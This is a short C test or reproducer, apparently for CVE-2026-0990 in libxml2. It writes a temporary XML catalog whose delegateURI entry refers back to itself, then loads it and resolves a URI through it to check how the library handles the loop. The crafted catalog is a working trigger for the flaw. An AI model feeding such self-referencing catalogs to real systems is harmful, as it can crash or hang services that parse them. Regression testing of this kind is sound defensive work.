/* CVE-2026-0990: a catalog that delegates a URI to itself. */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int xmlLoadCatalog(const char *);
unsigned char *xmlCatalogResolveURI(const unsigned char *);
int attempt(void)
{
    char name[] = "/tmp/catalog.XXXXXX";
    int fd = mkstemp(name);
    FILE *f = fdopen(fd, "w");
    if (!f) return 0;
    fprintf(f, "<?xml version=\"1.0\"?>\n<catalog xmlns=\"urn:oasis:names:tc:entity:xmlns:xml:catalog\">\n"
               "<delegateURI uriStartString=\"http://example.org/\" catalog=\"file://%s\"/>\n</catalog>\n", name);
    fclose(f);
    const int status = xmlLoadCatalog(name);
    unsigned char *found = status ? NULL : xmlCatalogResolveURI((const unsigned char *)"http://example.org/thing");
    unlink(name);
    return !status && !found;
}
